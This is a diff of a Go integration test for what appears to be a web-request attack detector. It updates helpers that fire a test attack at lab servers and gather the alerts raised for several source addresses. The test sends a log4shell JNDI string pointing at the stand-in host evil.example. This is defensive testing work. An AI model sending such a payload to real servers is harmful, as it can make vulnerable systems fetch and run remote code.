@@ -92,11 +92,11 @@ func (s *web) ask(t *testing.T, l *lab.Lab, from netip.Addr, requests ...[]byte)
 	s.requests += len(requests)
 }
 
-// told gives what was told of requests from an address.
-func (s *web) told(ctx context.Context, r *rig.Rig, from netip.Addr) ([]view.Alert, error) {
+// told gives what was told of requests from some addresses.
+func (s *web) told(ctx context.Context, r *rig.Rig, from ...netip.Addr) ([]view.Alert, error) {
 	alerts, err := r.Alerts(ctx, "--rule", "Attack in a request", "--limit", "10000")
 	return slices.DeleteFunc(alerts, func(a view.Alert) bool {
-		return a.Event.Network == nil || a.Event.Network.RemoteAddress != from.String()
+		return a.Event.Network == nil || !slices.ContainsFunc(from, func(ip netip.Addr) bool { return a.Event.Network.RemoteAddress == ip.String() })
 	}), err
 }
 
@@ -250,11 +250,12 @@ func startWebServers(t *testing.T, r *rig.Rig) []*web {
 // warm asks until the server is inspected: the first connections may be quicker than the probes.
 func (s *web) warm(t *testing.T, r *rig.Rig) {
 	t.Helper()
+	var asked []netip.Addr
 	err := eventually(t.Context(), time.Minute, func() error {
-		from := s.next()
+		asked = append(asked, s.next())
 		_, attack := traffic.Attack{Class: "log4shell", Text: "${jndi:ldap://evil.example/a}"}.At(0)
-		s.ask(t, r.Lab, from, attack)
-		told, err := s.told(t.Context(), r, from)
+		s.ask(t, r.Lab, asked[len(asked)-1], attack)
+		told, err := s.told(t.Context(), r, asked...)
 		if err == nil && len(told) == 0 {
 			err = fmt.Errorf("%s: nothing is told yet", s.name)
 		}
